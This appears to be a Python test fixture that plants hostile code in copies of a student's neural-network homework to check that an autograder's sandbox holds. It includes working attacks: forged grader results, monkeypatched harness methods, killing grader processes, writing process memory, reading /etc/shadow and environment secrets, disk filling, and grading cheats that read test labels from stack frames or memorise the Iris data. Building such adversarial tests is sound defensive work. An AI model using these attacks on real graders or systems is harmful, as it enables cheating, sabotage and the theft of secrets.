"""Hostile copies of the correct homework package (``check_fixtures/correct``): each is the
package with ``ReLU.forward`` left blank (``return ...``, what an honest learner who has not
done it hands in) and one attack a learner could write, planted where it runs inside the
grader's sandbox (``__init__.py``, which every part's process imports, or the blank method).
``tests/test_check_attacks.py`` runs them at each isolation level and checks that none earns
anything, leaves anything behind or reaches anything outside.

Every attack reads what it aims at from ``TARGETS`` (a JSON object baked into its source: the
grader's files, a classmate's package, a listener of the test, folders every user may write)
and marks every file it leaves with ``marker``, so that the test can look for them."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

CORRECT = Path(__file__).parent / "check_fixtures" / "correct"
RELU_FORWARD = "        return np.where(Z > 0, Z, 0.0)"

#: the attack module planted in the package (``neural_networks/_attack.py``); ``run(name)`` runs one
ATTACK_SOURCE = r'''
import json, os, signal, socket, sys, time
import numpy as np

TARGETS = json.loads(__TARGETS__)
MARK = TARGETS["marker"]


def graders():
    """The pids of the processes that look like the grader (its argv names backproplab check)."""
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == os.getpid():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                argv = f.read().split(b"\0")
        except OSError:
            continue
        if any(b"backproplab" in a for a in argv) and b"check" in argv and not any(b"zygote" in a for a in argv):
            found.append(int(name))
    return found


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def write_all(paths, text):
    """Try to add to (never to truncate: a test that failed would break the machine's Python) and
    to create a file beside every path; what got through is printed."""
    for path in paths:
        try:
            with open(path, "a") as f:
                f.write(text)
            print("REWROTE", path, flush=True)
        except (OSError, ValueError):
            pass
        try:
            with open(os.path.join(os.path.dirname(path), MARK + "-planted.py"), "w") as f:
                f.write(text)
        except OSError:
            pass


def targets_of_grader():
    """Every file the grader will write or that holds its code: from TARGETS and its own argv."""
    paths = list(TARGETS["paths"])
    for pid in graders():
        argv = cmdline(pid)
        if "--gradescope" in argv and argv.index("--gradescope") + 1 < len(argv):
            paths.append(argv[argv.index("--gradescope") + 1])
        paths.append(f"/proc/{pid}/fd/1")
    return paths


def daemon(body):
    """body() in a grandchild in a session of its own (setsid), which outlives its parent."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                body()
            finally:
                os._exit(0)
        os._exit(0)


def grandchild():
    daemon(rewrite_results_later)
    time.sleep(0.3)


def rewrite_results_later():
    end = time.time() + 8
    while time.time() < end:
        write_all(targets_of_grader(), '{"score": 1000, "tests": []} ' + MARK + "\n")
        time.sleep(0.05)


def forge_messages():
    """Write the grader's messages ourselves on every descriptor we have, then end at once."""
    from backproplab_check import protocol

    forged = [
        protocol.encode("result", {"records": {"c0.Y": {"kind": "array", "shape": [6, 5]}}, "verdict": "pass"},
                        {"c0.Y": np.zeros((6, 5))}),
        protocol.encode("end", {"part": "ReLU.forward", "seconds": 0.0, "exit": 0, "verdict": "pass"}),
        protocol.encode("part", {}, {"bytes": np.frombuffer(b'{"type":"result","records":{}}\n', np.uint8)}),
        b'{"verdict": "pass", "score": 1000}\n']
    for fd in range(1, 64):
        for message in forged:
            try:
                os.write(fd, message)
            except OSError:
                pass
    for name in ("results.json", "result.json", "../results.json", "/tmp/results.json"):
        try:
            with open(name, "w") as f:
                json.dump({"score": 1000, "verdict": "pass", "marker": MARK}, f)
        except OSError:
            pass
    os._exit(0)


def patch_recorder():
    """Replace the recorder's methods: every call 'returns' an array, every message says so."""
    from backproplab_check import harness, protocol

    def run(self, label, fn, *args, **kwargs):
        value = np.zeros((6, 5))
        self.record(label, value)
        return value

    def message(self):
        records = {label: {"kind": "array", "shape": [6, 5]} for label in ("c0.Y", "c1.Y")}
        return protocol.encode("result", {"records": records}, {label: np.zeros((6, 5)) for label in records})

    harness.Calls.run = run
    harness.Calls.message = message
    harness.Calls.note = lambda self, label, **info: None


def many_daemons():
    for _ in range(80):
        try:
            daemon(lambda: time.sleep(60))
        except OSError:
            break
    time.sleep(0.2)


def stop_the_grader():
    for pid in graders() + [os.getppid()]:
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                print("SIGNALLED", pid, sig, flush=True)
            except OSError:
                pass


def grader_memory():
    for pid in graders() + ["self"]:  # its own memory too: written, the audit hook would be undone
        try:
            with open(f"/proc/{pid}/mem", "r+b") as f:
                f.write(b"\0")
            print("WROTE MEMORY", pid)
        except (OSError, ValueError):
            pass
        try:  # past the audit hook, which sees only "mem": the kernel must refuse
            folder = os.open(f"/proc/{pid}", os.O_RDONLY)
            fd = os.open("mem", os.O_RDWR, dir_fd=folder)
            os.write(fd, b"\0")
            print("WROTE MEMORY", pid)
        except OSError:
            pass


def raise_limits():
    import resource
    for which in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
        for value in ((resource.RLIM_INFINITY, resource.RLIM_INFINITY), resource.getrlimit(which)[1:] * 2):
            try:
                resource.setrlimit(which, value)
            except (ValueError, OSError):
                pass
    big = np.ones(2**30 // 8)  # 1 GB, written
    print("ALLOCATED", big.nbytes, flush=True)


def fill_disks():
    """Hundreds of MB in every place it may write, a tree thousands of folders deep, and files in
    folders of others' that every user may write."""
    chunk = b"x" * 2**20
    places = [".", "..", "/tmp", "/var/tmp", "/dev/shm", "/run/lock", *TARGETS["shared"], "/", "/dev", "/etc",
              os.path.dirname(sys.executable)]
    for n, place in enumerate(places):
        for k in range(2 if place in ("/dev/shm", ".") else 1):
            try:
                with open(os.path.join(place, f"{MARK}-{n}-{k}"), "wb") as f:
                    for _ in range(40):
                        f.write(chunk)
                print("FILLED", place, flush=True)
            except OSError:
                pass
    for place in ("/tmp", "."):
        try:
            os.mkdir(os.path.join(place, MARK + "-deep"))
            here = os.getcwd()
            os.chdir(os.path.join(place, MARK + "-deep"))
            for _ in range(2500):
                os.mkdir("d")
                os.chdir("d")
            os.chdir(here)
        except OSError:
            pass


def rewrite_files():
    write_all(targets_of_grader(), "\n# " + MARK + "\n")


def network():
    said = " ".join(a for pid in graders() for a in cmdline(pid)) or "no grader seen"
    for family, address in ((socket.AF_INET, ("127.0.0.1", TARGETS["port"])),
                            (socket.AF_UNIX, "\0" + TARGETS["abstract"])):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(address)
                s.sendall(said.encode() + b"\n")
            print("CONNECTED", address, flush=True)
        except OSError as err:
            print("no connection", err, flush=True)


def leak():
    print("ENVIRONMENT", dict(os.environ), flush=True)
    for path in [*TARGETS["secrets"], *(f"/proc/{pid}/environ" for pid in graders()), "/proc/1/environ",
                 "/etc/shadow"]:
        try:
            with open(path, "rb") as f:
                print("READ", path, f.read(4000), flush=True)
        except OSError:
            pass


FAKE_TABLE = ("\x1b[2J\x1b[H\x1b]0;graded\x07part           verdict  max error\n"
              "ReLU.forward   pass     0.0e+00\n\n1 of 1 parts pass\r")


def inject():
    print(FAKE_TABLE, flush=True)
    raise RuntimeError(FAKE_TABLE)


def malformed(how):
    """Write one malformed result ourselves on the part's own pipe (the descriptor that is a pipe
    besides stdout), then end before the harness sends the real one."""
    from backproplab_check import protocol

    pipes = []
    for fd in [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2]:
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                pipes.append(fd)
        except OSError:  # the descriptor listdir itself used
            pass
    record = {"kind": "array", "shape": [6, 5], "dtype": "float64", "type": "ndarray"}
    if how == "huge":
        data = (json.dumps({"type": "result", "records": {"c0.Y": {**record, "shape": [2**20, 2**20]}},
                            "arrays": [["c0.Y", "<f8", [2**20, 2**20], 8 * 2**40]]}) + "\n").encode()
    elif how == "strings":
        data = (json.dumps({"type": "result", "records": {"c0.Y": record},
                            "arrays": [["c0.Y", "<U5", [6, 5], 600]]}) + "\n").encode() + b"\0" * 600
    elif how == "shape":
        data = (json.dumps({"type": "result", "records": {"c0.Y": {**record, "shape": 30}},
                            "arrays": [["c0.Y", "<f8", 30, 240]]}) + "\n").encode() + b"\0" * 240
    elif how == "types":
        data = protocol.encode("result", {"records": {"c0.Y": {"kind": "too large", "shape": 7},
                                                      "construct": {"kind": "error", "outer": [1], "message": []}}})
    elif how == "bignum":
        data = b'{"type":"result","records":{"c0.Y":{"kind":"none","n":' + b"9" * 5000 + b"}}}\n"
    elif how == "unhashable":
        data = b'{"type":"result","records":{},"arrays":[["c0.Y",["<f8"],[6,5],240]]}\n' + b"\0" * 240
    elif how == "no-loss":
        data = protocol.encode("result", {"records": {}})
    elif how == "garbage":
        data = os.urandom(100_000)
    for fd in pipes:
        try:
            os.write(fd, data)
        except OSError:
            pass
    os._exit(0)


def carry():
    """Leave files for the parts after this one (each part's process runs this at import)."""
    for path in ("carried", "../carried", f"/dev/shm/{MARK}-carried", f"/tmp/{MARK}-carried",
                 f"/var/tmp/{MARK}-carried"):
        if os.path.exists(path):
            print("CARRIED", path, flush=True)
        try:
            with open(path, "w") as f:
                f.write(MARK)
        except OSError:
            pass


def precreate():
    """Take the names the zygote would give the next parts' folders, and fill the working folder."""
    for n in range(200):
        for name in (f"../part-{n}", f"../part-{n}-x"):
            try:
                os.mkdir(name)
                os.chmod(name, 0)
            except OSError:
                pass
    try:
        os.symlink("/", "../part-link")
    except OSError:
        pass


def classmate():
    """A classmate's ReLU: their package, read where it lies (outside the sandbox)."""
    import importlib.util
    path = os.path.join(TARGETS["classmate"], "neural_networks", "activations.py")
    spec = importlib.util.spec_from_file_location("classmates_activations", path)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.ReLU().forward


def drop(label):
    """Leave one record (and its array) out of the result the harness sends."""
    from backproplab_check import harness

    original = harness.Calls.message

    def message(self):
        self.meta.pop(label, None)
        self.arrays.pop(label, None)
        return original(self)

    harness.Calls.message = message


def run(name):
    if name.startswith("drop-"):
        drop(name.split("-", 1)[1])
    elif name.startswith("malformed-"):
        malformed(name.split("-", 1)[1])
    elif name.startswith("reference-"):
        return globals()["reference"](name.split("-", 1)[1])
    else:
        return globals()[name]()
'''

#: the attacks that reach for a reference implementation, each ``reference()`` returning backproplab's
#: ReLU.forward; a package holds only its own (the grader's reading of the source flags every part whose
#: module imports a module that writes out an import of one, which would hide what the sandbox does)
REFERENCE = {
    "import": "import backproplab.nn as nn",
    "importlib": "import importlib\n    nn = importlib.import_module(''.join(['back', 'prop', 'lab']) + '.nn')",
    "__import__": "nn = __import__('backproplab.nn', fromlist=['nn'])",
    "sys.modules": "nn = sys.modules.get('backproplab.nn') or sys.modules['torch']",
    "torch": "import torch\n    return lambda Z: torch.relu(torch.from_numpy(Z)).numpy()",
    # the library's source read past the audit hook (which sees a path relative to a folder it cannot
    # know) and run under another name: what Landlock, not the hook, must refuse
    "source": """site = os.path.dirname(os.path.realpath(os.path.dirname(np.__file__)))
    found = {}
    for folder in (site, *TARGETS["grader_src"]):
        try:
            fd = os.open(os.path.dirname(folder), os.O_RDONLY)
            text = os.read(os.open(os.path.basename(folder) + "/nn/activations.py", os.O_RDONLY, dir_fd=fd), 10**6)
            exec(compile(text, "<copied>", "exec"), found)
            return found["ReLU"]().forward
        except (OSError, KeyError):
            continue
    raise RuntimeError("no reference found")""",
    # another Python, started without the audit hook (the name of the library only in a string)
    "program": """import subprocess
    code = ("import sys, json, numpy as np; from back" "proplab.nn import initialize_activation as a; "
            "print(json.dumps(a('relu').forward(np.array(json.load(sys.stdin))).tolist()))")

    def relu(Z):
        done = subprocess.run([sys.executable, "-c", code], input=json.dumps(Z.tolist()), capture_output=True,
                              text=True, timeout=20)
        return np.array(json.loads(done.stdout))
    return relu""",
}


def reference_source(how: str) -> str:
    return f"\n\ndef reference(how):\n    {REFERENCE[how]}\n    return nn.initialize_activation('relu').forward\n"


def package(tmp_path: Path, name: str, where: str, targets: dict, relu: str = "return ...",
            folder: str = "homework") -> Path:
    """A copy of the correct package, ReLU.forward blank, with the attack ``name`` run at import
    (``where="init"``) or in ReLU.forward (``where="method"``). ``relu`` is what ReLU.forward
    returns after the attack (``return ...``: blank; ``attack(Z)``: what the attack gave)."""
    root = tmp_path / folder
    shutil.copytree(CORRECT, root)
    nn = root / "neural_networks"
    source = ATTACK_SOURCE + (reference_source(name.split("-", 1)[1]) if name.startswith("reference-") else "")
    (nn / "_attack.py").write_text(source.replace("__TARGETS__", repr(json.dumps(targets))))
    activations = (nn / "activations.py").read_text()
    assert RELU_FORWARD in activations
    call = f"from neural_networks import _attack\n        attack = _attack.run({name!r})\n        " \
        if where == "method" else ""
    (nn / "activations.py").write_text(activations.replace(RELU_FORWARD, f"        {call}{relu}"))
    if where == "init":
        init = nn / "__init__.py"
        init.write_text(init.read_text() + f"\nfrom neural_networks import _attack\n_attack.run({name!r})\n")
    return root


def blank(tmp_path: Path, folder: str = "blank") -> Path:
    """The honest package that the attacks start from: ReLU.forward left blank."""
    root = tmp_path / folder
    shutil.copytree(CORRECT, root)
    path = root / "neural_networks" / "activations.py"
    path.write_text(path.read_text().replace(RELU_FORWARD, "        return ..."))
    return root


def edited(tmp_path: Path, folder: str, *edits: tuple[str, str, str]) -> Path:
    """A copy of the correct package with each (file, old, new) applied (old must occur)."""
    root = tmp_path / folder
    shutil.copytree(CORRECT, root)
    for file, old, new in edits:
        path = root / "neural_networks" / file
        text = path.read_text()
        assert old in text, (file, old)
        path.write_text(text.replace(old, new, 1))
    return root


CONV_FORWARD = """    def forward(self, X):
        if self.n_in is None:
            self._init_parameters(X.shape)
        W, b = self.parameters["W"], self.parameters["b"]"""


def conv_handed_pre_activation(tmp_path: Path) -> Path:
    """Conv2D.forward computes nothing: it finds, in the harness's frames, an input array of its
    output's shape (what an earlier grader handed it as the pre-activation Z) and returns σ of it."""
    return edited(tmp_path, "conv", ("layers.py", CONV_FORWARD, """    def forward(self, X):
        if self.n_in is None:
            self._init_parameters(X.shape)
        import sys
        frame = sys._getframe()
        while frame is not None and not {"inputs", "c"} <= set(frame.f_locals):
            frame = frame.f_back
        inputs, c = frame.f_locals["inputs"], frame.f_locals["c"]
        handed = [v for k, v in inputs.items() if k.startswith(f"c{c}.") and v.ndim == 4 and v.shape[-1] == self.n_out]
        if X.shape == inputs[f"c{c}.X0"].shape and handed:
            self.cache["Z"] = handed[0]
            return self.activation(handed[0])
        W, b = self.parameters["W"], self.parameters["b"]"""))


def zeros_everywhere(tmp_path: Path) -> Path:
    """FullyConnected returns zeros, and so does its activation (what a grader that judged a layer
    with the learner's own activation would accept)."""
    zero = """class _Zero:
    def __call__(self, Z):
        return np.zeros_like(Z)

    def forward(self, Z):
        return np.zeros_like(Z)

    def backward(self, Z, dY):
        return np.zeros_like(Z)


class FullyConnected(Layer):"""
    return edited(tmp_path, "zeros", ("layers.py", "class FullyConnected(Layer):", zero),
                  ("layers.py", "self.activation = initialize_activation(activation)\n        self.init_weights = "
                                "initialize_weights(weight_init, activation=activation)\n\n    def _init_parameters",
                   "self.activation = _Zero()\n        self.init_weights = initialize_weights(weight_init, "
                   "activation=activation)\n\n    def _init_parameters"),
                  ("layers.py", 'self.gradients["W"] = X.T @ dZ\n        self.gradients["b"] = np.sum(dZ, axis=0, '
                                'keepdims=True)\n        return dZ @ self.parameters["W"].T',
                   'self.gradients["W"] = np.zeros_like(self.parameters["W"])\n        self.gradients["b"] = '
                   'np.zeros_like(self.parameters["b"])\n        return np.zeros_like(X)'))


TRAIN = """    def train(self, dataset, epochs):
        args = dict(self.layer_args[-1])"""


def train_finds_labels_in_frames(tmp_path: Path) -> Path:
    """train() looks through every frame above it for the test flowers' labels; forward gives them."""
    return edited(tmp_path, "frames", ("models.py", TRAIN, """    def train(self, dataset, epochs):
        import sys
        frame, self.found = sys._getframe(), None
        while frame is not None:
            for value in list(frame.f_locals.values()):
                if isinstance(value, dict):
                    for key, array in value.items():
                        if "test" in str(key).lower() and str(key).startswith("Y"):
                            self.found = array
            frame = frame.f_back
        labels = getattr(dataset.test, "labels", None)
        if self.found is None and labels is not None and labels.any():
            self.found = labels
        found = self.found if self.found is not None else np.zeros((len(dataset.test.data_), 3))
        self.forward = lambda X: found  # the labels, if they were anywhere to be found; nothing is learned
        return
        args = dict(self.layer_args[-1])"""))


def train_memorises_iris(tmp_path: Path, table: list[tuple[list[float], int]]) -> Path:
    """train() trains nothing: the package carries the Iris data set with its labels (public, 150
    rows); forward undoes the grader's standardisation (the splits together are the 150 flowers:
    their smallest and largest values are the data set's) and looks each test flower up."""
    return edited(tmp_path, "iris", ("models.py", TRAIN, """    def train(self, dataset, epochs):
        table = np.array([row for row, _ in IRIS])
        labels = np.array([label for _, label in IRIS])
        every = np.concatenate([dataset.train.data_, dataset.validate.data_, dataset.test.data_])
        low, high = every.min(axis=0), every.max(axis=0)

        def forward(X):
            raw = table.min(axis=0) + (X - low) * (table.max(axis=0) - table.min(axis=0)) / (high - low)
            nearest = np.argmin(((raw[:, None, :] - table[None]) ** 2).sum(axis=2), axis=1)
            return np.eye(3)[labels[nearest]]

        self.forward = forward
        return
        args = dict(self.layer_args[-1])"""), ("models.py", "import numpy as np\n",
                                                 f"import numpy as np\n\nIRIS = {table!r}\n"))


def term_of_fewer_classes(tmp_path: Path) -> Path:
    """An unfinished Conv2D deleted, and Linear renamed Identity: the package now looks like a term
    whose homework has no Conv2D (Fall 2023)."""
    return edited(tmp_path, "term", ("layers.py", "class Conv2D(Layer):", "class _Unfinished(Layer):"),
                  ("activations.py", '"linear": Linear', '"linear": Identity'),
                  ("activations.py", "class Linear(Activation):", "class Identity(Activation):"))


def deleted_class(tmp_path: Path) -> Path:
    """An unfinished Conv2D deleted, nothing else changed."""
    return edited(tmp_path, "deleted", ("layers.py", "class Conv2D(Layer):", "class _Unfinished(Layer):"))
